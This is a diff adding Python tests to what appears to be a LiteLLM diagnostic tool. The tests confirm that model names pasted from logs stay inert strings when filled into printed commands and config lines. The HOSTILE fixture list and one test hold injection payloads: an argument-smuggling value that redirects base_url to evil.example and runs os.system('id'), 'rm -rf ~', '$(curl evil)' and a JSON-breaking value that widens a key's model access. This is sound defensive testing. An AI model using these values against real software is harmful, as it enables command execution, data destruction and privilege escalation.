@@ -110,3 +110,84 @@ def test_probe_skips_a_deployment_file_linked_outside_the_workspace_in_its_backg
     assert run.returncode in (0, 1), run.output
     assert "docker-compose.yml (deployment file) resolves to a file outside the workspace" in run.output, run.output
     assert "NotForThePullRequest" not in run.output and "1.70.0" not in run.output
+
+
+# -- values from the pasted text filled into the printed fix steps (diagnosis/classify.py fill) -------------------
+
+HOSTILE = ['x", base_url="http://evil.example", extra_headers=__import__("os").system("id") or "',
+           'x"], "max_budget": 1e9, "models": ["*', "x'; rm -rf ~; echo '", "$(curl evil)", "x: y #z", "a]}, {b: c"]
+
+
+@pytest.mark.parametrize("value", HOSTILE)
+def test_fill_keeps_a_value_one_string_in_a_python_call_or_a_config_line(value):
+    """A value filled into a code span that is no shell command was put there raw: `litellm.completion(model="{model}",
+    …)` with a pasted model of `x", base_url="http://evil…", extra_headers=__import__("os").system("id") or "` printed a
+    call that sends the request elsewhere and runs a command; `model_name: {model_group}` and `fallbacks:
+    [{"{model_group}": [...]}]` took keys of the value's. Now it is one string where it stands."""
+    import ast
+
+    import yaml
+
+    from litellm_doctor.diagnosis.classify import fill
+
+    call = fill("Run `litellm.completion(model=\"{model}\", messages=...)`.", {"model": value})
+    tree = ast.parse(call[call.index("litellm."):call.rindex(")") + 1].replace("...", "None"), mode="eval")
+    assert [k.arg for k in tree.body.keywords] == ["model", "messages"], call
+    assert tree.body.keywords[0].value.value == value, call
+    line = fill("Set `model_name: {model_group}`.", {"model_group": value})
+    assert yaml.safe_load(line[line.index("model_name"):line.rindex("`")]) == {"model_name": value}, line
+    flow = fill('Add `router_settings.fallbacks: [{"{model_group}": ["OTHER_GROUP"]}]`.', {"model_group": value})
+    assert yaml.safe_load(flow[flow.index("router_settings"):flow.rindex("`")]) == \
+        {"router_settings.fallbacks": [{value: ["OTHER_GROUP"]}]}, flow
+
+
+def test_fill_keeps_a_json_body_in_a_shell_command_one_value():
+    """`curl … -d '{"key": "sk-...", "models": ["{model}"]}'` (LD-AUTH-026's step) was quoted for the shell only: a
+    model of `x"], "max_budget": 1e9, "models": ["*` gave the key every model when the printed command was run."""
+    import shlex
+
+    from litellm_doctor.diagnosis.classify import fill
+
+    value = HOSTILE[1]
+    step = fill("Run `curl $PROXY/key/update -d '{\"key\": \"sk-...\", \"models\": [\"{model}\"]}'`.", {"model": value})
+    args = shlex.split(step[step.index("curl"):step.rindex("`")])
+    assert json.loads(args[args.index("-d") + 1]) == {"key": "sk-...", "models": [value]}, step
+
+
+def test_fill_fences_a_value_holding_a_backtick():
+    """A pasted model name with a backtick ended the code span it was filled into: Markdown showed half a command
+    as code and the rest as prose."""
+    from litellm_doctor.diagnosis.classify import fill
+    from litellm_doctor.formats.sanitize import markdown
+
+    for template in ("Run `ollama pull {model}`.", "Test `litellm.completion(model=\"{model}\")`.", "The model `{model}`."):
+        filled = fill(template, {"model": "x`id`y"})
+        assert filled.count("``") == 2 and "x`id`y" in filled, filled
+        assert markdown(filled) == filled  # one code span, as CommonMark pairs it: nothing outside it to escape
+
+
+@pytest.mark.parametrize("fmt", FORMATS)
+def test_a_pasted_model_name_cannot_add_arguments_to_the_printed_python_call(fmt):
+    """LD-ROUTE-017 reads the model from `Fallback attempt failed for model X:` and prints `litellm.completion(model="X",
+    messages=...)` to try it alone: in every format the pasted name stays the model's string."""
+    model = 'x",base_url="http://evil.example",extra_headers=__import__("os").system("id")or"'
+    text = (f"19:05:49 - LiteLLM:ERROR: fallback_utils.py:62 - Fallback attempt failed for model {model}: "
+            'litellm.BadRequestError: OpenrouterException - {"error":{"message":"Expected string, received null","code":400}}')
+    run = run_cli(["diagnose", text, "-f", fmt, "-v"])
+    assert run.returncode in (0, 1), run.output
+    assert "LD-ROUTE-017" in run.output or fmt == "text", run.output
+    out = run.stdout
+    if fmt in ("json", "sarif"):  # the document's strings, as a reader of it reads them
+        out = "\n".join(_strings(json.loads(run.stdout)))
+    assert 'model="x",base_url=' not in out and "completion(model=" in out, run.stdout
+
+
+def _strings(value):
+    if isinstance(value, str):
+        yield value
+    elif isinstance(value, dict):
+        for v in value.values():
+            yield from _strings(v)
+    elif isinstance(value, list):
+        for v in value:
+            yield from _strings(v)
